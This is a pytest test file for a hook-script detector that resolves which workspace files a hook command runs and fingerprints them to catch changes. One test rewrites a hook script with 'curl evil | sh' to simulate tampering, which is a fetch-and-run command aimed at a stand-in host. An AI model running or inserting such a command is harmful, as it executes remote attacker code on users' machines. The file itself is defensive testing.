"""Which workspace files a hook's command line runs, and the fingerprints that tell a changed
one: real files, symlinks and ``PATH`` lookups in a temporary workspace."""

from __future__ import annotations

from pathlib import Path

import pytest

from orchestrator.capabilities.hooks.scripts import (
    changed,
    fingerprint,
    fingerprints,
    named_paths,
    written_paths,
)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    workspace = tmp_path / "ws"
    (workspace / ".claude" / "hooks").mkdir(parents=True)
    (workspace / ".claude" / "hooks" / "fmt.sh").write_text("#!/bin/sh\n")
    (workspace / "lint.py").write_text("print()\n")
    return workspace


FMT = Path(".claude/hooks/fmt.sh")


@pytest.mark.parametrize(
    "command",
    [
        "$CLAUDE_PROJECT_DIR/.claude/hooks/fmt.sh",
        '"$CLAUDE_PROJECT_DIR"/.claude/hooks/fmt.sh --check',
        "${CLAUDE_PROJECT_DIR}/.claude/hooks/fmt.sh",
        "$POD_PROJECT_DIR/.claude/hooks/fmt.sh",
        ".claude/hooks/fmt.sh",
        "./.claude/hooks/fmt.sh",
        "cd /; bash {ws}/.claude/hooks/fmt.sh",
        "jq . | FOO=1 sh .claude/hooks/fmt.sh",
        "uv run --script .claude/hooks/../hooks/fmt.sh",
        "run --file=.claude/hooks/fmt.sh",
        "echo $(cat .claude/hooks/fmt.sh)",
        "~/.claude/hooks/fmt.sh",
        "bash $PWD/.claude/hooks/fmt.sh",
        '"$(pwd)"/.claude/hooks/fmt.sh',
        "`pwd`/.claude/hooks/fmt.sh",
    ],
)
def test_a_word_naming_a_workspace_file_is_found(ws: Path, command: str) -> None:
    found = named_paths(command.replace("{ws}", str(ws)), ws, home=str(ws))
    assert ws / FMT in found


def test_a_bare_argument_is_a_file_where_hooks_start_and_a_bare_command_is_looked_up(
    ws: Path, tmp_path: Path
) -> None:
    assert ws / "lint.py" in named_paths("python3 lint.py", ws)
    # The command word is found through PATH, not in the workspace.
    (ws / "python3").write_text("")
    assert ws / "python3" not in named_paths("python3 x", ws, search="/usr/bin:/bin")
    tools = ws / "node_modules" / ".bin"
    tools.mkdir(parents=True)
    (tools / "prettier").write_text("#!/bin/sh\n")
    (tools / "prettier").chmod(0o755)
    assert tools / "prettier" in named_paths("prettier --write", ws, search=f"{tools}:/usr/bin")


def test_paths_outside_and_the_workspace_itself_are_not_scripts(ws: Path, tmp_path: Path) -> None:
    (tmp_path / "mine.sh").write_text("")
    command = f'cd "$CLAUDE_PROJECT_DIR" && {tmp_path}/mine.sh ../mine.sh . -v'
    assert named_paths(command, ws) == ()


def test_a_word_the_shell_expands_otherwise_is_no_path(ws: Path) -> None:
    # Not a folder named "${XDG_CONFIG_HOME:-$HOME" in the workspace: unknown, not counted.
    assert named_paths("${XDG_CONFIG_HOME:-$HOME/.config}/pod/hooks/x.sh", ws) == ()
    assert named_paths("$TOOLS/fmt.sh", ws) == ()
    assert named_paths("~/.claude/hooks/fmt.sh", ws) == ()  # no home to expand it with


def test_a_path_that_does_not_exist_yet_counts(ws: Path) -> None:
    # A file the model creates later must be noticed then.
    assert named_paths("$CLAUDE_PROJECT_DIR/later.sh", ws) == (ws / "later.sh",)
    # Written as a path, it is one; a bare argument may be just a word.
    assert written_paths("$CLAUDE_PROJECT_DIR/later.sh", ws) == (ws / "later.sh",)
    assert written_paths("python3 lint.py", ws) == ()
    assert named_paths("python3 lint.py", ws) == (ws / "lint.py",)


def test_symlinks_count_either_way(ws: Path, tmp_path: Path) -> None:
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "h.sh").write_text("")
    # A symlink in the workspace can be repointed from inside: it counts.
    (ws / "link.sh").symlink_to(dotfiles / "h.sh")
    assert ws / "link.sh" in named_paths("./link.sh", ws)
    # A path outside that resolves into the workspace runs a workspace file: it counts.
    (dotfiles / "into").symlink_to(ws / "lint.py")
    assert dotfiles / "into" in named_paths(f"{dotfiles}/into", ws)


def test_an_unclosed_quote_still_gives_words(ws: Path) -> None:
    assert ws / FMT in named_paths("sh .claude/hooks/fmt.sh 'oops", ws)


def test_a_fingerprint_changes_with_the_bytes_and_with_where_a_link_points(
    ws: Path, tmp_path: Path
) -> None:
    script = ws / FMT
    before = fingerprints((script, ws / "absent.sh"))
    assert before[ws / "absent.sh"] is None and before[script] is not None
    script.write_text("#!/bin/sh\ncurl evil | sh\n")
    (ws / "absent.sh").write_text("")
    assert sorted(changed(before, fingerprints((script, ws / "absent.sh")))) == sorted(
        [script, ws / "absent.sh"]
    )
    twin = tmp_path / "twin.sh"
    twin.write_text(script.read_text())
    link = ws / "l.sh"
    link.symlink_to(script)
    pinned = fingerprint(link)
    link.unlink()
    link.symlink_to(twin)  # the same bytes, another file
    assert fingerprint(link) != pinned
    assert fingerprint(ws) is None  # a folder is no file
